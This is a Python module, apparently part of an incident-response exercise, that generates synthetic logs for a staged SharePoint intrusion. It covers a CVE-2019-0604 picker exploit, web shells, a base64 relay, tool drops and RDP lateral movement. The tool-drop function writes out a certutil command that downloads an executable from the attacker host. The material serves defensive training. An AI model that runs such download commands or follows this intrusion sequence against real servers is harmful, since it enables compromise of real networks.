"""Events 1 to 6: through SharePoint into the ministry, web shells, tools, and on by a service account."""

from __future__ import annotations

from base64 import b64encode
from random import Random

from playbooks.exercises.attack.actors import AGENT, CMD, LAYOUTS, POOL, SHELL_CLIENT, at
from playbooks.exercises.moments import MINUTE, SECOND
from playbooks.exercises.programs.images import SYSTEM32
from playbooks.exercises.programs.logons import explicit_logon, remote_session
from playbooks.exercises.programs.station import Process
from playbooks.exercises.scene import Scene

_OK = "200 0 0"
_DIALOG = (
    "PickerDialogType=Microsoft.SharePoint.WebControls.ItemPickerDialog,+Microsoft.SharePoint,+Version=15.0.0.0,"
    "+Culture=neutral,+PublicKeyToken=71e9bce111e9429c"
)


def foothold(scene: Scene) -> None:
    """Write events 1 to 6."""
    rng = scene.rng("attack: foothold")
    sp = scene.station("SP01")
    worker = sp.running(
        SYSTEM32 + "inetsrv\\w3wp.exe",
        'c:\\windows\\system32\\inetsrv\\w3wp.exe -ap "SharePoint - 80" -v "v4.0" -l "webengine4.dll"',
        POOL,
    )
    _exploit(scene)
    _first_commands(scene, worker)
    _web_shells(scene, worker)
    _relay(scene, worker, rng)
    _tools(scene, worker)
    _service_account(scene, worker, rng)


def _exploit(scene: Scene) -> None:
    """Event 1: CVE-2019-0604, a serialised object in a picker dialog's hidden field."""
    ms, site = at(scene, 0), scene.sharepoint
    path = "/_layouts/15/Picker.aspx"
    site.request(ms, "GET", path, _DIALOG, SHELL_CLIENT, AGENT, _OK, 1, sent=17_204, received=480, taken=310)
    for step, (status, size) in enumerate((("500 0 0", 3_312), (_OK, 17_880), (_OK, 17_880))):
        site.request(
            ms + (9 + step * 14) * SECOND, "POST", path, _DIALOG, SHELL_CLIENT, AGENT, status, 1,
            sent=size, received=8_911 + step * 1_204, taken=640,
        )  # fmt: skip


def _first_commands(scene: Scene, worker: Process) -> None:
    """Event 2: the worker process runs commands."""
    ms, sp = at(scene, 1), scene.station("SP01")
    commands = (("whoami", "whoami.exe"), ("hostname", "HOSTNAME.EXE"), ("ipconfig /all", "ipconfig.exe"))
    for step, (command, image) in enumerate(commands):
        begin = ms + step * 20 * SECOND
        shell = sp.start(begin, CMD, f'"cmd.exe" /c {command}', worker, 2)
        sp.start(begin + 90, SYSTEM32 + image, command, shell, 2)


def _web_shells(scene: Scene, worker: Process) -> None:
    """Event 3: three pages are written under LAYOUTS, each by one more request to the picker."""
    sp = scene.station("SP01")
    for step, name in enumerate(("pickers.aspx", "error4.aspx", "ClientBin.aspx")):
        ms = at(scene, 3) + step * 25 * SECOND
        scene.sharepoint.request(
            ms, "POST", "/_layouts/15/Picker.aspx", _DIALOG, SHELL_CLIENT, AGENT, _OK, 3,
            sent=17_880, received=21_400 + step * 3_100, taken=700,
        )  # fmt: skip
        sp.create_file(ms + 400, worker, LAYOUTS + name, 3)


def _relay(scene: Scene, worker: Process, rng: Random) -> None:
    """Event 4: hundreds of POSTs to one page by one client without referer, each naming `ip:port` in base64."""
    sp = scene.station("SP01")
    goals = (("10.20.1.20", 445), ("10.20.1.10", 389), ("10.20.2.10", 443), ("10.20.1.20", 3389))
    ms = at(scene, 6)
    for step in range(260):
        address, port = goals[step * len(goals) // 260]
        goal = b64encode(f"{address}:{port}".encode()).decode()
        ms += rng.randrange(200, 900) if step < 200 else rng.randrange(20, 50) * SECOND
        scene.sharepoint.request(
            ms, "POST", "/_layouts/15/ClientBin.aspx", goal, SHELL_CLIENT, AGENT, _OK, 4,
            sent=rng.randrange(120, 48_000), received=rng.randrange(400, 9_000), taken=rng.randrange(20, 4_000),
        )  # fmt: skip
        if step % 13 == 0:
            sp.connect(ms + 60, worker, address, port, 4)


def _tools(scene: Scene, worker: Process) -> None:
    """Event 5: tools come in through a shell page, one is fetched by certutil."""
    ms, sp = at(scene, 9), scene.station("SP01")
    for step, name in enumerate(("mi.dat", "scan.zip")):
        begin = ms + step * 30 * SECOND
        scene.sharepoint.request(
            begin, "POST", "/_layouts/15/error4.aspx", "", SHELL_CLIENT, AGENT, _OK, 5,
            sent=310, received=1_940_000 + step * 760_000, taken=9_200,
        )  # fmt: skip
        sp.create_file(begin + 900, worker, f"C:\\Users\\Public\\Libraries\\{name}", 5)
    begin = ms + MINUTE
    url = f"http://{SHELL_CLIENT}:8080/up/tk.dat"
    command = f"certutil.exe -urlcache -split -f {url} C:\\Users\\Public\\Libraries\\tk.exe"
    shell = sp.start(begin, CMD, f'"cmd.exe" /c {command}', worker, 5)
    fetcher = sp.start(begin + 110, SYSTEM32 + "certutil.exe", command, shell, 5)
    sp.connect(begin + 500, fetcher, SHELL_CLIENT, 8080, 5)
    sp.create_file(begin + 1800, fetcher, "C:\\Users\\Public\\Libraries\\tk.exe", 5)


def _service_account(scene: Scene, worker: Process, rng: Random) -> None:
    """Event 6: the farm's service account, local administrator on FS01, logs on there over RDP."""
    ms = at(scene, 15)
    fs, sp = scene.estate.servers["FS01"], scene.station("SP01")
    explicit_logon(sp, ms - SECOND, POOL, POOL, fs.fqdn, worker.image, 6)
    sp.connect(ms - 600, worker, fs.address, 3389, 6, host=fs.fqdn)
    remote_session(scene.station("FS01"), ms, POOL, sp.machine.address, rng, 6)
